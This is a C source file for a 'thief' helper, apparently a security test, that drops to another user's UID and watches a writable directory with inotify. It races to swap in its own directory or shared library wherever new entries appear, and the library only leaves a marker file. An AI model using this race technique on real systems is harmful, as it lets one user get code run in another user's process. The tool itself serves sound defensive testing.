/*
 * A process of another user that wants its code to be executed. It sleeps until something turns up
 * in a directory that it can write to, and puts at once something of its own in that place: for a
 * directory one that it has made ready, in which it waits again, for a file its library. The
 * library leaves a mark in the process that loads it.
 *
 *   thief UID DIRECTORY LIBRARY     until it is killed
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#ifdef LIBRARY
__attribute__((constructor)) static void leave_a_mark(void)
{
    const char *const mark = getenv("SIGQUEUE_THIEF");
    if (mark != NULL)
        close(open(mark, O_CREAT | O_WRONLY, 0644));
}
#else

enum { TRAPS = 2000, PATH = 512 };

static char library[1 << 20];
static size_t library_length;
static int events; /* an inotify */
static struct trap {
    int watch;
    char path[PATH]; /* where it is now */
} traps[TRAPS];
static int made; /* of them, the last one is ready */

static void die(const char *what)
{
    perror(what);
    exit(2);
}

/* A directory whose events we get wherever it is moved to. */
static void make_ready(void)
{
    struct trap *const trap = &traps[made];
    snprintf(trap->path, PATH, "trap-%d", made);
    if (mkdir(trap->path, 0777) != 0)
        die(trap->path);
    trap->watch = inotify_add_watch(events, trap->path, IN_CREATE);
    if (trap->watch < 0)
        die("inotify");
    made++;
}

static void read_library(const char *path)
{
    const int from = open(path, O_RDONLY);
    const ssize_t length = from < 0 ? -1 : read(from, library, sizeof library);
    if (length <= 0 || length == sizeof library)
        die(path);
    library_length = (size_t)length;
    close(from);
}

static void write_library(const char *path)
{
    const int to = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0777);
    if (write(to, library, library_length) != (ssize_t)library_length)
        die(path);
    close(to);
}

/* A directory of another, in which he may be allowed to write. */
static void follow(const char *path)
{
    const int watch = inotify_add_watch(events, path, IN_CREATE);
    if (watch < 0)
        return;
    traps[made] = traps[made - 1];
    traps[made - 1].watch = watch;
    memcpy(traps[made - 1].path, path, PATH);
    made++;
}

/* What is there is moved aside in its directory: to move it elsewhere he would have to own it. */
static void put_a_trap_at(const char *path)
{
    struct trap *const trap = &traps[made - 1];
    char aside[PATH];
    if (made == TRAPS || snprintf(aside, PATH, "%s-stolen-%d", path, made) >= PATH)
        return;
    if (rename(path, aside) != 0) {
        follow(path);
    } else if (rename(trap->path, path) == 0) {
        memcpy(trap->path, path, PATH);
        make_ready();
    }
}

static void put_the_library_at(const char *path)
{
    if (rename("library", path) == 0)
        write_library("library");
}

static void take(const char *directory, const struct inotify_event *event)
{
    char path[PATH];
    if (event->len == 0 || strncmp(event->name, "trap-", 5) == 0 ||
        strcmp(event->name, "library") == 0)
        return; /* is ours */
    if (snprintf(path, sizeof path, "%s/%s", directory, event->name) >= PATH)
        return;
    if ((event->mask & IN_ISDIR) != 0)
        put_a_trap_at(path);
    else
        put_the_library_at(path);
}

static const char *directory_of(int watch)
{
    for (int i = made - 1; i >= 0; i--)
        if (traps[i].watch == watch)
            return traps[i].path;
    return ".";
}

int main(int argc, char **argv)
{
    static _Alignas(struct inotify_event) char buffer[1 << 16];
    if (argc != 4)
        return 2;
    read_library(argv[3]); /* which another user may not be able to reach */
    const uid_t thief = (uid_t)atoi(argv[1]);
    if (chdir(argv[2]) != 0 || setgid(thief) != 0 || setuid(thief) != 0)
        die(argv[2]);
    umask(0);
    events = inotify_init1(IN_CLOEXEC);
    write_library("library");
    make_ready();
    if (inotify_add_watch(events, ".", IN_CREATE) < 0)
        die("inotify");
    puts("ready");
    fflush(stdout);
    for (;;) {
        const ssize_t got = read(events, buffer, sizeof buffer);
        if (got <= 0)
            die("read");
        for (const char *at = buffer; at < buffer + got;) {
            const struct inotify_event *const event = (const void *)at;
            take(directory_of(event->wd), event);
            at += sizeof *event + event->len;
        }
    }
}
#endif
